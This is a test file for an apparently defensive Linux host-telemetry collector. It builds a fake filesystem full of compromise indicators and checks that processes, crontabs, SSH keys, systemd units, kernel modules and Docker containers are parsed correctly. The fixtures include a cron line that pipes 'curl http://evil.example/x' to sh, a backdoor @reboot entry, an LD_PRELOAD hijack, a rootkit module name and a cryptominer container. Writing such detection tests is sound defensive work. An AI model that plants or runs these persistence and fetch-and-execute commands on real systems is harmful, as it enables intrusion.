import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { test } from "tap";
import { collectLinux, LINUX_TABLES, type Row } from "../../services/agent/telemetry/linux.js";

// ---- fake filesystem tree ------------------------------------------------------------------

const EVIL_BINARY = "#!/bin/sh\necho not really a binary\n";
const CONTAINER_ID = "a".repeat(64);

function utmpRecord(r: { type: number; pid: number; line: string; user: string; host: string; time: number }): Buffer {
  const b = Buffer.alloc(384);
  b.writeInt16LE(r.type, 0);
  b.writeInt32LE(r.pid, 4);
  b.write(r.line, 8);
  b.write(r.user, 44);
  b.write(r.host, 76);
  b.writeInt32LE(r.time, 340);
  return b;
}

function buildTree(): string {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), "inquest-telemetry-"));
  const put = (rel: string, content: string | Buffer, mode?: number) => {
    const file = path.join(root, rel);
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.writeFileSync(file, content);
    if (mode !== undefined) fs.chmodSync(file, mode);
  };
  const link = (rel: string, target: string) => {
    const file = path.join(root, rel);
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.symlinkSync(target, file);
  };

  put(
    "etc/passwd",
    [
      "root:x:0:0:root:/root:/bin/bash",
      "u:x:1000:1000:User U,,,:/home/u:/bin/zsh",
      "svc:x:1001:1001::/home/u:/usr/sbin/nologin", // shares u's home: read once
      "nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin",
      "broken-line",
      "",
    ].join("\n"),
  );
  put("etc/group", "root:x:0:\nu:x:1000:\n");
  put(
    "etc/crontab",
    [
      "SHELL=/bin/sh",
      "PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin",
      "# m h dom mon dow user command",
      "17 *\t* * * root    cd / && run-parts --report /etc/cron.hourly",
      "@reboot root /opt/backdoor.sh",
      "",
    ].join("\n"),
  );
  put("etc/cron.d/x", "*/5 * * * * root curl -s http://evil.example/x | sh\n");
  put("var/spool/cron/crontabs/u", "# user crontab\n0 3 * * 1 /home/u/bin/job --flag\n");
  put(
    "home/u/.ssh/authorized_keys",
    [
      "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOtest u@laptop",
      "# disabled: ssh-rsa AAAAold",
      'command="echo hi there",no-pty ssh-rsa AAAAB3NzaC1yc2Etest deploy key',
      "",
    ].join("\n"),
  );
  put("home/u/.ssh/authorized_keys2", "ecdsa-sha2-nistp256 AAAAE2VjZHNhtest\n");
  put("home/u/.bash_history", "#1700000000\nls -la\nwhoami\n");
  put("home/u/.zsh_history", ": 1700000100:0;curl http://evil.example\n");

  put(
    "proc/modules",
    [
      "nf_tables 245760 3 nft_chain_nat,nft_compat, Live 0xffffffffc0a00000",
      "diamorphine 16384 0 - Live 0x0000000000000000 (OE)",
      "",
    ].join("\n"),
  );
  const tail = "00000000:00000000 00:00000000 00000000";
  put(
    "proc/net/tcp",
    [
      "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode",
      `   0: 00000000:0016 00000000:0000 0A ${tail}     0        0 11111 1 0000000000000000 100 0 0 10 0`,
      `   1: 0100007F:115C 0100007F:D431 01 ${tail}  1000        0 22222 1 0000000000000000 20 4 30 10 -1`,
      "",
    ].join("\n"),
  );
  put(
    "proc/net/tcp6",
    "  sl  local_address remote_address st ...\n" +
      `   0: 00000000000000000000000001000000:1F90 00000000000000000000000000000000:0000 0A ${tail}     0        0 33333 1 0 100 0 0 10 0\n`,
  );
  put(
    "proc/net/udp",
    "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode ref pointer drops\n" +
      `  10: 00000000:0035 00000000:0000 07 ${tail}     0        0 44444 2 0000000000000000 0\n`,
  );

  put(
    "proc/123/stat",
    "123 (evil (x) y) S 1 123 123 0 -1 4194560 100 0 0 0 250 75 0 0 20 0 3 0 4200 10000000 500 18446744073709551615\n",
  );
  put("proc/123/cmdline", "/usr/bin/evil\x00--listen\x004444\x00");
  put(
    "proc/123/status",
    "Name:\tevil\nUmask:\t0022\nState:\tS (sleeping)\nPPid:\t1\nUid:\t1000\t0\t1000\t1000\nGid:\t1000\t1000\t1000\t1000\nVmSize:\t   10000 kB\nVmRSS:\t    2000 kB\n",
  );
  put("proc/123/environ", "PATH=/usr/bin\0LD_PRELOAD=/tmp/x.so\0EMPTY=\0EQ=a=b\0");
  link("proc/123/exe", "/usr/bin/evil");
  link("proc/123/cwd", "/tmp");
  link("proc/123/fd/0", "/dev/null");
  link("proc/123/fd/3", "socket:[22222]");
  link("proc/123/fd/4", "socket:[11111]");
  link("proc/123/fd/5", "pipe:[55555]");
  // A process whose binary was deleted after start.
  put("proc/456/stat", "456 (dropper) R 123 456 456 0 -1 0 0 0 0 0 1 1 0 0 20 0 1 0 100 0 0\n");
  put("proc/456/status", "Name:\tdropper\nUid:\t0\t0\t0\t0\nGid:\t0\t0\t0\t0\n");
  link("proc/456/exe", "/tmp/dropper (deleted)");
  // A pid directory whose process exited mid-scan: nothing left to read.
  fs.mkdirSync(path.join(root, "proc/789"), { recursive: true });
  put("proc/self-not-a-pid/stat", "ignored");

  put("usr/bin/evil", EVIL_BINARY, 0o4755);
  put("usr/bin/plain", "plain", 0o755);
  put("usr/sbin/sub/wall", "sgid", 0o2755);
  put("usr/sbin/sub/deeper/too-deep", "suid", 0o4755);
  link("usr/bin/evil-link", "evil");

  put(
    "var/lib/dpkg/status",
    [
      "Package: openssl",
      "Status: install ok installed",
      "Priority: optional",
      "Section: utils",
      "Installed-Size: 2156",
      "Maintainer: Debian OpenSSL Team <pkg-openssl-devel@alioth-lists.debian.net>",
      "Architecture: amd64",
      "Source: openssl (3.0.11-1)",
      "Version: 1:3.0.11-1~deb12u2",
      "Description: Secure Sockets Layer toolkit",
      " This package contains the openssl binary.",
      "",
      "Package: oldpkg",
      "Status: deinstall ok config-files",
      "Architecture: all",
      "Version: 0.9",
      "",
      "Package: purged",
      "Status: purge ok not-installed",
      "Architecture: all",
      "",
    ].join("\n"),
  );
  put("etc/hosts", "127.0.0.1\tlocalhost\n# comment line\n10.0.0.5 evil.example evil # tail comment\n::1 ip6-localhost ip6-loopback\nlonely\n");
  put("etc/sudoers", "Defaults\tenv_reset\nroot\tALL=(ALL:ALL) ALL\n# a comment\n%sudo   ALL=(ALL:ALL) ALL\n#includedir /etc/sudoers.d\n");
  put("etc/sudoers.d/u", "u ALL=(ALL) NOPASSWD: \\\n    /usr/bin/apt\n");

  put(
    "etc/systemd/system/evil.service",
    "[Unit]\nDescription=Totally legit\n\n[Service]\nExecStart=/usr/bin/evil \\\n  --listen 4444\nUser=u\n\n[Install]\nWantedBy=multi-user.target\n",
  );
  link("etc/systemd/system/masked.service", "/dev/null");
  put("etc/systemd/system/multi-user.target.wants/placeholder", "");
  put("etc/systemd/system/ssh.service", "[Unit]\nDescription=Override\n[Service]\nExecStart=\nExecStart=/usr/sbin/sshd -D -o X=1\n");
  put("lib/systemd/system/ssh.service", "[Unit]\nDescription=OpenBSD Secure Shell server\n[Service]\nExecStart=/usr/sbin/sshd -D\n");
  put("lib/systemd/system/README", "not a unit");

  put(
    "var/log/wtmp",
    Buffer.concat([
      utmpRecord({ type: 2, pid: 0, line: "~", user: "reboot", host: "6.1.0-18-amd64", time: 1700000000 }),
      utmpRecord({ type: 7, pid: 2222, line: "pts/0", user: "u", host: "203.0.113.9", time: 1700000500 }),
      Buffer.alloc(100), // torn trailing write: ignored
    ]),
  );
  put(
    "var/run/utmp",
    Buffer.concat([
      utmpRecord({ type: 1, pid: 1, line: "~", user: "runlevel", host: "", time: 1700000001 }),
      utmpRecord({ type: 7, pid: 3333, line: "pts/1", user: "root", host: "198.51.100.7", time: 1700000600 }),
    ]),
  );

  put(
    `var/lib/docker/containers/${CONTAINER_ID}/config.v2.json`,
    JSON.stringify({
      ID: CONTAINER_ID,
      Name: "/miner",
      Created: "2024-01-02T03:04:05.123456789Z",
      Path: "/bin/sh",
      Args: ["-c", "xmrig --donate-level 0"],
      Image: "sha256:" + "b".repeat(64),
      Config: { Image: "alpine:3.19", Entrypoint: ["/bin/sh"] },
      State: { Running: true, Paused: false, Pid: 4242, StartedAt: "2024-01-02T03:04:06Z", FinishedAt: "0001-01-01T00:00:00Z" },
    }),
  );
  put(`var/lib/docker/containers/${CONTAINER_ID}/hostconfig.json`, JSON.stringify({ Privileged: true }));
  put("var/lib/docker/containers/not-a-container/config.v2.json", "{");
  return root;
}

const root = buildTree();
process.once("exit", () => fs.rmSync(root, { recursive: true, force: true }));

const byKey = (rows: Row[] | undefined, key: string): Map<string | number, Row> => new Map((rows ?? []).map((r) => [r[key] ?? "", r]));

// ---- fake-tree tables ------------------------------------------------------------------------

test("processes: parses stat, status, cmdline and links of each pid", async (t) => {
  const { processes } = await collectLinux(["processes"], { root });
  t.same(
    processes?.map((p) => p.pid),
    [123, 456],
    "exited pid 789 and non-numeric entries are skipped",
  );
  const evil = byKey(processes, "pid").get(123);
  t.match(evil, {
    pid: 123,
    name: "evil",
    path: "/usr/bin/evil",
    cmdline: "/usr/bin/evil --listen 4444",
    uid: 1000,
    gid: 1000,
    euid: 0,
    egid: 1000,
    parent: 1,
    pgroup: 123,
    state: "S",
    on_disk: 1,
    start_time: 42,
    user_time: 2500,
    system_time: 750,
    threads: 3,
    nice: 0,
    cwd: "/tmp",
    root: "",
    resident_size: 2000 * 1024,
    total_size: 10000 * 1024,
  });
  const dropper = byKey(processes, "pid").get(456);
  t.match(dropper, { name: "dropper", path: "/tmp/dropper", on_disk: 0, parent: 123, start_time: 1, cmdline: "", cwd: "" });
});

test("process_envs: one row per variable, split at the first '='", async (t) => {
  const { process_envs } = await collectLinux(["process_envs"], { root });
  t.same(process_envs, [
    { pid: 123, key: "PATH", value: "/usr/bin" },
    { pid: 123, key: "LD_PRELOAD", value: "/tmp/x.so" },
    { pid: 123, key: "EMPTY", value: "" },
    { pid: 123, key: "EQ", value: "a=b" },
  ]);
});

test("hash: sha256 of running executables that exist", async (t) => {
  const { hash } = await collectLinux(["hash"], { root });
  t.equal(hash?.length, 1, "the deleted dropper cannot be reached and is skipped");
  t.match(hash?.[0], {
    path: "/usr/bin/evil",
    directory: "/usr/bin",
    sha256: createHash("sha256").update(EVIL_BINARY).digest("hex"),
    md5: createHash("md5").update(EVIL_BINARY).digest("hex"),
  });
});

test("listening_ports: tcp LISTEN and unconnected udp, mapped to pid via fd links", async (t) => {
  const { listening_ports } = await collectLinux(["listening_ports"], { root });
  t.same(
    listening_ports?.map((r) => [r.pid, r.fd, r.port, r.protocol, r.family, r.address, r.socket]),
    [
      [123, 4, 22, 6, 2, "0.0.0.0", 11111],
      [-1, -1, 8080, 6, 10, "::1", 33333],
      [-1, -1, 53, 17, 2, "0.0.0.0", 44444],
    ],
  );
});

test("process_open_sockets: addresses, ports, state and owner", async (t) => {
  const { process_open_sockets } = await collectLinux(["process_open_sockets"], { root });
  t.equal(process_open_sockets?.length, 4);
  const established = byKey(process_open_sockets, "socket").get(22222);
  t.match(established, {
    pid: 123,
    fd: 3,
    family: 2,
    protocol: 6,
    local_address: "127.0.0.1",
    local_port: 4444,
    remote_address: "127.0.0.1",
    remote_port: 54321,
    state: "ESTABLISHED",
  });
  t.match(byKey(process_open_sockets, "socket").get(11111), { state: "LISTEN", local_port: 22, remote_address: "0.0.0.0" });
  t.match(byKey(process_open_sockets, "socket").get(44444), { protocol: 17, state: "", pid: -1 });
});

test("users: every well-formed /etc/passwd line", async (t) => {
  const { users } = await collectLinux(["users"], { root });
  t.equal(users?.length, 4, "malformed and blank lines are skipped");
  t.same(byKey(users, "username").get("u"), {
    uid: 1000,
    gid: 1000,
    uid_signed: 1000,
    gid_signed: 1000,
    username: "u",
    description: "User U,,,",
    directory: "/home/u",
    shell: "/bin/zsh",
    uuid: "",
  });
  t.match(byKey(users, "username").get("nobody"), { uid: 65534, directory: "/nonexistent", shell: "/usr/sbin/nologin" });
});

test("crontab: system, cron.d and user spool crontabs", async (t) => {
  const { crontab } = await collectLinux(["crontab"], { root });
  t.same(crontab, [
    {
      event: "",
      minute: "17",
      hour: "*",
      day_of_month: "*",
      month: "*",
      day_of_week: "*",
      command: "root cd / && run-parts --report /etc/cron.hourly",
      path: "/etc/crontab",
    },
    { event: "@reboot", minute: "", hour: "", day_of_month: "", month: "", day_of_week: "", command: "root /opt/backdoor.sh", path: "/etc/crontab" },
    {
      event: "",
      minute: "*/5",
      hour: "*",
      day_of_month: "*",
      month: "*",
      day_of_week: "*",
      command: "root curl -s http://evil.example/x | sh",
      path: "/etc/cron.d/x",
    },
    {
      event: "",
      minute: "0",
      hour: "3",
      day_of_month: "*",
      month: "*",
      day_of_week: "1",
      command: "/home/u/bin/job --flag",
      path: "/var/spool/cron/crontabs/u",
    },
  ]);
});

test("authorized_keys: algorithm, key, options and comment per key file", async (t) => {
  const { authorized_keys } = await collectLinux(["authorized_keys"], { root });
  t.same(authorized_keys, [
    {
      uid: 1000,
      options: "",
      algorithm: "ssh-ed25519",
      key: "AAAAC3NzaC1lZDI1NTE5AAAAIOtest",
      comment: "u@laptop",
      key_file: "/home/u/.ssh/authorized_keys",
    },
    {
      uid: 1000,
      options: 'command="echo hi there",no-pty',
      algorithm: "ssh-rsa",
      key: "AAAAB3NzaC1yc2Etest",
      comment: "deploy key",
      key_file: "/home/u/.ssh/authorized_keys",
    },
    {
      uid: 1000,
      options: "",
      algorithm: "ecdsa-sha2-nistp256",
      key: "AAAAE2VjZHNhtest",
      comment: "",
      key_file: "/home/u/.ssh/authorized_keys2",
    },
  ]);
});

test("shell_history: bash (with timestamps) and zsh extended history", async (t) => {
  const { shell_history } = await collectLinux(["shell_history"], { root });
  t.same(shell_history, [
    { uid: 1000, time: 1700000000, command: "ls -la", history_file: "/home/u/.bash_history" },
    { uid: 1000, time: 0, command: "whoami", history_file: "/home/u/.bash_history" },
    { uid: 1000, time: 1700000100, command: "curl http://evil.example", history_file: "/home/u/.zsh_history" },
  ]);
});

test("kernel_modules: /proc/modules columns", async (t) => {
  const { kernel_modules } = await collectLinux(["kernel_modules"], { root });
  t.same(kernel_modules, [
    { name: "nf_tables", size: 245760, used_by: "nft_chain_nat,nft_compat,", status: "Live", address: "0xffffffffc0a00000" },
    { name: "diamorphine", size: 16384, used_by: "-", status: "Live", address: "0x0000000000000000" },
  ]);
});

test("etc_hosts: comments stripped, hostnames space-joined", async (t) => {
  const { etc_hosts } = await collectLinux(["etc_hosts"], { root });
  t.same(etc_hosts, [
    { address: "127.0.0.1", hostnames: "localhost" },
    { address: "10.0.0.5", hostnames: "evil.example evil" },
    { address: "::1", hostnames: "ip6-localhost ip6-loopback" },
  ]);
});

test("sudoers: rules, defaults, includedir followed, continuations joined", async (t) => {
  const { sudoers } = await collectLinux(["sudoers"], { root });
  t.same(sudoers, [
    { source: "/etc/sudoers", header: "Defaults", rule_details: "env_reset" },
    { source: "/etc/sudoers", header: "root", rule_details: "ALL=(ALL:ALL) ALL" },
    { source: "/etc/sudoers", header: "%sudo", rule_details: "ALL=(ALL:ALL) ALL" },
    { source: "/etc/sudoers", header: "#includedir", rule_details: "/etc/sudoers.d" },
    { source: "/etc/sudoers.d/u", header: "u", rule_details: "ALL=(ALL) NOPASSWD: /usr/bin/apt" },
  ]);
});

test("suid_bin: setuid/setgid files up to two levels, symlinks not followed", async (t) => {
  const { suid_bin } = await collectLinux(["suid_bin"], { root });
  // The fake files belong to whoever runs the test; names come from the fake passwd/group.
  const uid = process.getuid?.() ?? 0;
  const gid = process.getgid?.() ?? 0;
  const username = uid === 0 ? "root" : uid === 1000 ? "u" : String(uid);
  const groupname = gid === 0 ? "root" : gid === 1000 ? "u" : String(gid);
  t.same(suid_bin, [
    { path: "/usr/bin/evil", username, groupname, permissions: "S" },
    { path: "/usr/sbin/sub/wall", username, groupname, permissions: "G" },
  ]);
});

test("systemd_units: /etc overrides /lib, masked units, ExecStart reset", async (t) => {
  const { systemd_units } = await collectLinux(["systemd_units"], { root });
  const units = byKey(systemd_units, "id");
  t.same([...units.keys()].sort(), ["evil.service", "masked.service", "ssh.service"]);
  t.same(units.get("evil.service"), {
    id: "evil.service",
    description: "Totally legit",
    load_state: "unknown",
    active_state: "unknown",
    sub_state: "unknown",
    fragment_path: "/etc/systemd/system/evil.service",
    user: "u",
    exec_start: "/usr/bin/evil --listen 4444",
  });
  t.match(units.get("masked.service"), { load_state: "masked", fragment_path: "", exec_start: "" });
  t.match(units.get("ssh.service"), {
    description: "Override",
    fragment_path: "/etc/systemd/system/ssh.service",
    exec_start: "/usr/sbin/sshd -D -o X=1",
  });
});

test("deb_packages: installed and config-files packages, purged ones skipped", async (t) => {
  const { deb_packages } = await collectLinux(["deb_packages"], { root });
  t.same(deb_packages, [
    {
      name: "openssl",
      version: "1:3.0.11-1~deb12u2",
      source: "openssl",
      size: 2156,
      arch: "amd64",
      revision: "1~deb12u2",
      status: "install ok installed",
      maintainer: "Debian OpenSSL Team <pkg-openssl-devel@alioth-lists.debian.net>",
      section: "utils",
      priority: "optional",
      admindir: "/var/lib/dpkg",
    },
    {
      name: "oldpkg",
      version: "0.9",
      source: "",
      size: 0,
      arch: "all",
      revision: "",
      status: "deinstall ok config-files",
      maintainer: "",
      section: "",
      priority: "",
      admindir: "/var/lib/dpkg",
    },
  ]);
});

test("last and logged_in_users: binary utmp records", async (t) => {
  const { last, logged_in_users } = await collectLinux(["last", "logged_in_users"], { root });
  t.same(last, [
    { username: "reboot", tty: "~", pid: 0, type: 2, type_name: "boot_time", time: 1700000000, host: "6.1.0-18-amd64" },
    { username: "u", tty: "pts/0", pid: 2222, type: 7, type_name: "user", time: 1700000500, host: "203.0.113.9" },
  ]);
  t.same(logged_in_users, [{ type: "user", user: "root", tty: "pts/1", host: "198.51.100.7", time: 1700000600, pid: 3333 }]);
});

test("docker_containers: read from the daemon's on-disk state", async (t) => {
  const { docker_containers } = await collectLinux(["docker_containers"], { root });
  t.same(docker_containers, [
    {
      id: CONTAINER_ID,
      name: "/miner",
      image: "alpine:3.19",
      image_id: "sha256:" + "b".repeat(64),
      command: "/bin/sh -c xmrig --donate-level 0",
      created: 1704164645,
      state: "running",
      status: "",
      pid: 4242,
      path: "/bin/sh",
      config_entrypoint: "/bin/sh",
      started_at: "2024-01-02T03:04:06Z",
      finished_at: "0001-01-01T00:00:00Z",
      privileged: 1,
    },
  ]);
});

// ---- registry behaviour ------------------------------------------------------------------------

test("registry: unknown tables skipped, duplicates collapsed, every table listed", async (t) => {
  const result = await collectLinux(["users", "no_such_table", "users", "__proto__"], { root });
  t.same(Object.keys(result), ["users"]);
  t.equal(new Set(LINUX_TABLES).size, LINUX_TABLES.length);
  for (const name of ["processes", "listening_ports", "hash", "docker_containers", "last", "logged_in_users"]) {
    t.ok(LINUX_TABLES.includes(name), name);
  }
  const all = await collectLinux(LINUX_TABLES, { root });
  t.same(Object.keys(all).sort(), [...LINUX_TABLES].sort());
});

test("registry: maxRowsPerTable caps every table", async (t) => {
  const all = await collectLinux(LINUX_TABLES, { root, maxRowsPerTable: 1 });
  for (const [table, rows] of Object.entries(all)) t.ok(rows.length <= 1, `${table} has ${rows.length} rows`);
  t.equal(all.users?.length, 1);
  t.equal(all.process_envs?.length, 1);
  const none = await collectLinux(["users"], { root, maxRowsPerTable: 0 });
  t.same(none, { users: [] });
});

test("missing or unreadable sources yield empty tables, never a throw", async (t) => {
  const empty = await collectLinux(LINUX_TABLES, { root: path.join(root, "does-not-exist") });
  for (const [table, rows] of Object.entries(empty)) t.same(rows, [], table);

  // Files replaced by directories (EISDIR) and garbage content.
  const odd = fs.mkdtempSync(path.join(os.tmpdir(), "inquest-telemetry-odd-"));
  t.teardown(() => fs.rmSync(odd, { recursive: true, force: true }));
  for (const dir of ["etc/passwd", "etc/hosts", "proc/modules", "var/log/wtmp", "etc/sudoers"]) fs.mkdirSync(path.join(odd, dir), { recursive: true });
  fs.mkdirSync(path.join(odd, "proc/net"), { recursive: true });
  fs.writeFileSync(path.join(odd, "proc/net/tcp"), "header\n  0: zz:zz yy:yy 0A\n\0\0\0 garbage\n");
  fs.mkdirSync(path.join(odd, "proc/77"), { recursive: true });
  fs.writeFileSync(path.join(odd, "proc/77/stat"), "no parens here");
  const result = await collectLinux(LINUX_TABLES, { root: odd });
  t.same(result.users, []);
  t.same(result.etc_hosts, []);
  t.same(result.listening_ports, []);
  t.same(result.processes?.map((p) => [p.pid, p.state, p.parent]), [[77, "", -1]]);
});

test("planted FIFOs and symlinked history files are not read", async (t) => {
  const hostile = fs.mkdtempSync(path.join(os.tmpdir(), "inquest-telemetry-hostile-"));
  t.teardown(() => fs.rmSync(hostile, { recursive: true, force: true }));
  const at = (rel: string) => path.join(hostile, rel);
  fs.mkdirSync(at("etc"), { recursive: true });
  fs.mkdirSync(at("home/m/.ssh"), { recursive: true });
  fs.writeFileSync(at("etc/passwd"), "m:x:1000:1000::/home/m:/bin/bash\n");
  fs.writeFileSync(at("etc/secret"), "root:$6$hash:19000:0:99999:7:::\n");
  fs.symlinkSync(at("etc/secret"), at("home/m/.bash_history"));
  let fifo = true;
  try {
    execFileSync("mkfifo", [at("home/m/.zsh_history"), at("home/m/.ssh/authorized_keys"), at("etc/hosts")]);
  } catch {
    fifo = false;
  }
  // Without O_NONBLOCK + fstat, open() on a FIFO with no writer would block forever.
  const result = await collectLinux(["shell_history", "authorized_keys", "etc_hosts", "users"], { root: hostile });
  t.same(result.shell_history, [], "symlinked history refused; FIFO history skipped");
  t.same(result.authorized_keys, []);
  t.same(result.etc_hosts, []);
  t.equal(result.users?.length, 1);
  if (!fifo) t.comment("mkfifo unavailable: FIFO half not exercised");
});

// ---- the real machine --------------------------------------------------------------------------

test("real root: processes include this test process; sockets parse", { skip: process.platform !== "linux" }, async (t) => {
  const result = await collectLinux(["processes", "listening_ports", "process_open_sockets"]);
  const self = result.processes?.find((p) => p.pid === process.pid);
  t.ok(self, "own pid present");
  t.match(String(self?.cmdline), /node/);
  t.equal(self?.parent, process.ppid);
  t.equal(self?.uid, process.getuid?.());
  t.equal(self?.cwd, process.cwd());
  t.ok(Array.isArray(result.listening_ports));
  for (const row of result.listening_ports ?? []) {
    t.ok(Number.isInteger(row.port) && (row.port as number) >= 0 && (row.port as number) < 65536, `port ${row.port}`);
    t.ok([2, 10].includes(row.family as number));
    t.ok([6, 17].includes(row.protocol as number));
  }
});
